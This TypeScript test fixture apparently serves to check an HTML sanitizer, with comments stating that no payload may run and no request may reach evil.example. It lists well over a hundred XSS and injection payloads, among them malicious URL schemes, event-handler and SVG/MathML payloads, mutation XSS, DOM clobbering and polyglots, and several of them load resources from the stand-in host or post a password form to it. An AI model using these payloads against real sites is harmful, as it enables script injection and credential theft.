/** Injected content tries to contact this host; no request may reach it. */
export const EVIL = 'https://evil.example'

/** A payload that marks the window when it runs. */
const RUN = 'window.ran=1'

/** URLs that must not be followed, shown or requested. Keys name the technique. */
export const badAddresses: Readonly<Record<string, string>> = {
  'javascript: URL': `javascript:${RUN}`,
  'javascript: URL in mixed case': `JaVaScRiPt:${RUN}`,
  'javascript: URL after whitespace': ` \t\n javascript:${RUN}`,
  'javascript: URL after a control character': `\u0001javascript:${RUN}`,
  'javascript: URL with a tab in the scheme': `java\tscript:${RUN}`,
  'javascript: URL with a CRLF in the scheme': `java\r\nscript:${RUN}`,
  'javascript: URL with a NUL in the scheme': `java\0script:${RUN}`,
  'javascript: URL with a host in a comment': `javascript://palpite.example/%0a${RUN}`,
  'javascript: URL that returns HTML': `javascript:'<script>${RUN}</script>'`,
  'vbscript: URL': `vbscript:${RUN}`,
  'livescript: URL': `livescript:${RUN}`,
  'data: URL of an HTML document': `data:text/html,<script>${RUN}</script>`,
  'base64 data: URL of an HTML document': 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'data: URL of an SVG image': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'data: URL of a script': `data:text/javascript,${RUN}`,
  'blob: URL': 'blob:null/00000000-0000-4000-8000-000000000000',
  'file: URL': 'file:///etc/passwd',
  'view-source: URL': `view-source:javascript:${RUN}`,
  'filesystem: URL': 'filesystem:https://palpite.example/temporary/a.html',
  'Android intent: URL': 'intent://evil.example/#Intent;scheme=https;end',
  'protocol-relative URL': '//evil.example/',
  'protocol-relative URL with a backslash': '/\\evil.example/',
  'protocol-relative URL with two backslashes': '\\\\evil.example\\',
  'protocol-relative URL with a tab': '/\t/evil.example/',
  'URL with a trusted host as userinfo': 'https://palpite.example@evil.example/',
  'http: URL of another host': 'http://evil.example/',
  'path traversal to a protocol-relative URL': '/promotions/../../..//evil.example/',
  'next parameter with a javascript: URL': `/login?next=javascript:${RUN}`,
  'next parameter with another host': '/login?next=//evil.example/',
  'attribute breakout with double quotes': `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  'attribute breakout with single quotes': `' onmouseover='${RUN}' x='`,
  'tag breakout with a script': `"><script>${RUN}</script>`,
  'CSS url() breakout': `x);background:url(${EVIL}/style)`,
}

const ofAddresses = Object.fromEntries(
  Object.entries(badAddresses).map(([what, address]) => {
    const value = address.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
    return [`link to ${what}`, `<a href="${value}">here</a>`]
  }),
)

/** HTML that must have no effect. Keys name the technique. */
export const injections: Readonly<Record<string, string>> = {
  // Scripts.
  'inline script': `<script>${RUN}</script>`,
  'script in mixed case': `<ScRiPt>${RUN}</sCrIpT>`,
  'script with a slash instead of a space': `<script/x>${RUN}</script>`,
  'unclosed script': `<script>${RUN}`,
  'nested script tags': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'external script': `<script src="${EVIL}/script.js"></script>`,
  'module script with an external import': `<script type="module">import "${EVIL}/module.js"</script>`,
  'import map': `<script type="importmap">{"imports":{"react":"${EVIL}/react.js"}}</script>`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/"]}]}</script>`,
  'closing tag of a surrounding script': `</script><script>${RUN}</script>`,
  'closing tag of a surrounding title': `</title><script>${RUN}</script>`,
  'closing tag of a surrounding textarea': `</textarea><img src=x onerror=${RUN}>`,
  'end of a surrounding comment': `--><img src=x onerror=${RUN}>`,
  'end of a surrounding CDATA section': `]]><img src=x onerror=${RUN}>`,

  // Event handlers.
  'img with onerror': `<img src=x onerror=${RUN}>`,
  'img with quoted onerror': `<img src="x" onerror="${RUN}">`,
  'img with onerror in backticks': `<img src=\`x\` onerror=\`${RUN}\`>`,
  'img with slashes instead of spaces': `<img/src=x/onerror=${RUN}>`,
  'img with form feeds instead of spaces': `<img\fsrc=x\fonerror=${RUN}>`,
  'img with line feeds instead of spaces': `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  'img with entities in onerror': `<img src=x onerror="&#119;indow.r&#x61;n&equals;1">`,
  'unclosed img': `<img src=x onerror=${RUN} `,
  'image element with onerror': `<image src=x onerror=${RUN}>`,
  'img after an attribute breakout': `"><img src=x onerror=${RUN}>`,
  'img in a quoted attribute': `<p title="</p><img src=x onerror=${RUN}>">`,
  'picture with an external source': `<picture><source srcset="${EVIL}/source.png"><img src=x onerror=${RUN}></picture>`,
  'img with an external srcset': `<img srcset="${EVIL}/one.png 1x, ${EVIL}/two.png 2x" onerror=${RUN}>`,
  'p with autofocus and onfocus': `<p tabindex=0 autofocus onfocus=${RUN}>words</p>`,
  'input with autofocus and onfocus': `<input autofocus onfocus=${RUN}>`,
  'select with autofocus and onfocus': `<select autofocus onfocus=${RUN}></select>`,
  'textarea with autofocus and onfocus': `<textarea autofocus onfocus=${RUN}></textarea>`,
  'contenteditable element with onfocus': `<b contenteditable autofocus onfocus=${RUN}>words</b>`,
  'details with ontoggle': `<details open ontoggle=${RUN}><summary>more</summary></details>`,
  'popover with onbeforetoggle': `<button popovertarget=p>open</button><p id=p popover onbeforetoggle=${RUN}>words</p>`,
  'marquee with onstart': `<marquee onstart=${RUN} loop=1 width=0>words</marquee>`,
  'body with onload and onpageshow': `<body onload=${RUN} onpageshow=${RUN}>`,
  'frameset with onload': `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  'p with pointer and mouse handlers': `<p onpointerenter=${RUN} onmouseover=${RUN} onpointerrawupdate=${RUN}>words</p>`,
  'p with animation handlers': `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=${RUN} onanimationend=${RUN}>words</p>`,
  'p with ontransitionend': `<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionend=${RUN}>words</p>`,
  'p with oncontentvisibilityautostatechange': `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${RUN}>words</p>`,
  'video with onerror': `<video src=x onerror=${RUN}><source src=x onerror=${RUN}></video>`,
  'audio with onerror': `<audio src=x onerror=${RUN} autoplay></audio>`,
  'video track with onerror': `<video><track default src=x onerror=${RUN}></video>`,
  'video with an external poster': `<video poster="${EVIL}/poster.png"></video>`,
  'stylesheet link with onerror': `<link rel=stylesheet href=x onerror=${RUN}>`,

  // SVG and MathML.
  'SVG with onload': `<svg onload=${RUN}></svg>`,
  'unclosed SVG with slashes': `<svg/onload=${RUN}//`,
  'SVG script': `<svg><script>${RUN}</script></svg>`,
  'SVG script with a data: URL': `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  'SVG script with entities': '<svg><script>&#119;indow.ran=1</script></svg>',
  'SVG animate that changes href': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>here</text></a></svg>`,
  'SVG set that adds onmouseover': `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
  'SVG animate with onbegin': `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  'SVG use with a data: URL': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x" /></svg>`,
  'SVG foreignObject with HTML': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'external SVG image': `<svg><image href="${EVIL}/image.png" /></svg>`,
  'external SVG feImage': `<svg><filter><feImage href="${EVIL}/filter.png" /></filter></svg>`,
  'MathML link': `<math href="javascript:${RUN}"><mtext>here</mtext></math>`,
  'MathML maction link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">here</maction></math>`,
  'MathML annotation with HTML': `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,

  // Content that changes when parsed twice.
  'mutation XSS: style in SVG': `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  'mutation XSS: style in an SVG title': `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
  'mutation XSS: CDATA in an SVG desc': `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
  'mutation XSS: table in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'mutation XSS: nested MathML': `<math><mtext><mglyph><style><math><!--</style><img src=x onerror=${RUN}>-->`,
  'mutation XSS: nested forms': `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${RUN}>"></form>`,
  'mutation XSS: noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'mutation XSS: noembed': `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  'mutation XSS: xmp': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'mutation XSS: iframe': `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  'mutation XSS: template': `<template><p title="</template><img src=x onerror=${RUN}>"></template>`,
  'foster-parented table content': `<table><p><style><!--</style><img src=x onerror=${RUN}>--></p></table>`,
  'style in a select': `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  'plaintext element': `<plaintext><img src=x onerror=${RUN}>`,
  'abruptly closed comment': `<!--><img src=x onerror=${RUN}>-->`,
  'comment closed with an exclamation mark': `<!-- --!><img src=x onerror=${RUN}> -->`,
  'conditional comment': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'processing instructions': `<?xml-stylesheet href="javascript:${RUN}"?><?php echo 1 ?><img src=x onerror=${RUN}>`,
  'CDATA section': `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  'deeply nested elements': `${'<b>'.repeat(600)}<img src=x onerror=${RUN}>`,
  'deeply nested SVG': `${'<svg><desc>'.repeat(300)}<img src=x onerror=${RUN}>`,

  // External resources.
  'iframe with a javascript: URL': `<iframe src="javascript:${RUN}"></iframe>`,
  'iframe with srcdoc': `<iframe srcdoc="<script>top.ran=1</script>"></iframe>`,
  'iframe with entities in srcdoc': `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.ran=1&quot;&gt;"></iframe>`,
  'external iframe': `<iframe src="${EVIL}/frame" onload=${RUN}></iframe>`,
  'object with a javascript: URL': `<object data="javascript:${RUN}"></object>`,
  'object with a data: URL': `<object data="data:text/html,<script>parent.ran=1</script>" type="text/html"></object>`,
  'object with onerror': `<object data=x onerror=${RUN}><param name=movie value="javascript:${RUN}"></object>`,
  'embed with a javascript: URL': `<embed src="javascript:${RUN}" onload=${RUN}>`,
  'external embed': `<embed src="${EVIL}/embed">`,
  'applet with a javascript: URL': `<applet code="javascript:${RUN}"></applet>`,
  'external portal': `<portal src="${EVIL}/portal" onload=${RUN}></portal>`,
  'external fenced frame': `<fencedframe src="${EVIL}/fenced"></fencedframe>`,
  'external stylesheet': `<link rel=stylesheet href="${EVIL}/sheet.css">`,
  'prefetch and preconnect links': `<link rel=prefetch href="${EVIL}/prefetch"><link rel=preconnect href="${EVIL}">`,
  'style element with external URLs': `<style>@import "${EVIL}/import.css"; body{background:url(${EVIL}/background.png)}</style>`,
  'style attribute with an external URL': `<p style="background:url(${EVIL}/background.png)">words</p>`,
  'style attribute with a full-page overlay':
    '<p style="position:fixed;inset:0;z-index:9999;background:#fff">words</p>',
  'style attribute with a CSS expression': `<p style="width:expression(${RUN});behavior:url(#x);-moz-binding:url(${EVIL}/b.xml)">words</p>`,
  'style attribute with CSS escapes': `<p style="\\62 ackground:u\\72l(javascript:${RUN})">words</p>`,
  'table with background URLs': `<table background="${EVIL}/table.png"><td background="javascript:${RUN}">cell</table>`,
  'external img': `<img src="${EVIL}/picture.png" alt="">`,
  'img with lowsrc and dynsrc': `<img lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn.png">`,

  // Navigation and form targets.
  'external base URL': `<base href="${EVIL}/"><a href="/promotions">here</a>`,
  'base target': '<base target=_top><a href="/promotions">here</a>',
  'meta refresh to another host': `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  'meta refresh to a javascript: URL': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  'meta content security policy': `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
  'meta set-cookie': '<meta http-equiv=set-cookie content="token=stolen">',
  'form to another host': `<form action="${EVIL}/form"><input name=password><button>send</button></form>`,
  'form with a javascript: URL': `<form action="javascript:${RUN}"><button autofocus>send</button></form>`,
  'button with a javascript: formaction': `<form id=f></form><button form=f formaction="javascript:${RUN}">send</button>`,
  'image button with a javascript: formaction': `<form><input type=image src=x formaction="javascript:${RUN}"></form>`,
  'self-submitting form': `<form id=f action="${EVIL}/"></form><img src=x onerror=f.submit()>`,
  'image map with a javascript: URL': `<img usemap=#m src=x><map name=m><area shape=default href="javascript:${RUN}"></map>`,
  'link with ping': `<a href="/promotions" ping="${EVIL}/ping">here</a>`,
  'link with rel=opener': `<a href="/promotions" target="_blank" rel="opener">here</a>`,
  'link with download': '<a href="/promotions" download="update.exe">here</a>',
  'link with decimal entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.ran=1">here</a>',
  'link with unterminated hexadecimal entities':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.ran=1">here</a>',
  'link with named entities': '<a href="java&Tab;script&colon;window&period;ran&equals;1">here</a>',
  'link with a line feed entity': '<a href="java&NewLine;script:window.ran=1">here</a>',
  'link with xlink:href': `<a xlink:href="javascript:${RUN}">here</a>`,
  'link with two href attributes': `<a href="/promotions" href="javascript:${RUN}">here</a>`,

  // DOM clobbering.
  'DOM clobbering: document.body': '<a name="body">words</a><a id="body">words</a>',
  'DOM clobbering: document properties':
    '<img name=getElementById><img name=cookie><form name=querySelector></form>',
  'DOM clobbering: window properties':
    '<a id=early></a><a id=ran2></a><a id=trustedTypes></a><a id=installOffer></a>',
  'DOM clobbering: form.attributes':
    '<form><input name=attributes><input name=nodeName><input name=parentNode></form>',
  'DOM clobbering: form.childNodes':
    '<form id=x><input name=childNodes><input name=removeChild><input name=remove></form>',
  'DOM clobbering: HTML collection':
    '<a id=config></a><a id=config name=platform href="https://evil.example/"></a>',
  'DOM clobbering: ids of the page':
    '<p id=boot>{"config":{"platform":"https://evil.example"}}</p><p id=content></p><p id=root></p>',
  'DOM clobbering: prototype properties': '<a id=__proto__></a><a name=constructor></a><a id=toString></a>',

  // Custom elements.
  'custom element': `<x-ran onclick=${RUN} is=x-ran>words</x-ran><b is=x-ran>words</b>`,
  'unknown element with onfocus': `<xss tabindex=1 autofocus onfocus=${RUN}>words</xss>`,
  'declarative shadow root and slot': `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div><slot name=x></slot>`,
  'template with a script': `<template><script>${RUN}</script></template>`,
  'template expression': '{{constructor.constructor("window.ran=1")()}}',
  'template expressions in text':
    "<p>{{7*7}} $\u007b7*7} <%= 7*7 %> #{7*7} [[7*7]] {{'a'.constructor.prototype}}</p>",
  'framework attributes': `<p ng-app ng-csp ng-click=$event.view.ran=1 v-html="'x'" x-data x-init="window.ran=1" hx-get="${EVIL}/" hx-trigger=load data-bind="x">words</p>`,

  // Look-alike and bidirectional characters.
  'full-width angle brackets': `＜script＞${RUN}＜/script＞＜img src=x onerror=${RUN}＞`,
  'long s and dotless i in tag names': `<ſcript>${RUN}</ſcript><ımg src=x onerror=${RUN}>`,
  'bidirectional control characters': `\u202e<script>${RUN}</script>\u202c\u2066<img src=x onerror=${RUN}>\u2069`,
  'Unicode line and paragraph separators': `\u2028<img src=x onerror=${RUN}>\u2029`,
  'NULs in tag and attribute names': `<scr\0ipt>${RUN}</scr\0ipt><im\0g src=x onerror=${RUN}><img src=x one\0rror=${RUN}>`,
  'lone surrogates': `\ud800<img src=x onerror=${RUN}>\udc00`,
  'byte order mark': `\ufeff<script>${RUN}</script>`,
  'UTF-7 script': '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  'JavaScript escapes':
    '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e\\x3cimg src=x onerror=window.ran=1\\x3e',
  'percent-encoded tags':
    '%3Cscript%3Ewindow.ran=1%3C/script%3E%253Cimg%20src%253Dx%2520onerror%253Dwindow.ran%253D1%253E',
  'entity-encoded tags':
    '&lt;script&gt;window.ran=1&lt;/script&gt;&amp;lt;img src=x onerror=window.ran=1&amp;gt;',

  // Polyglot payloads.
  'XSS polyglot': `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  'quotes and closing tags': `'"\`--></style></script></title></textarea></noscript></template></select><svg/onload=${RUN}>`,

  ...ofAddresses,
}
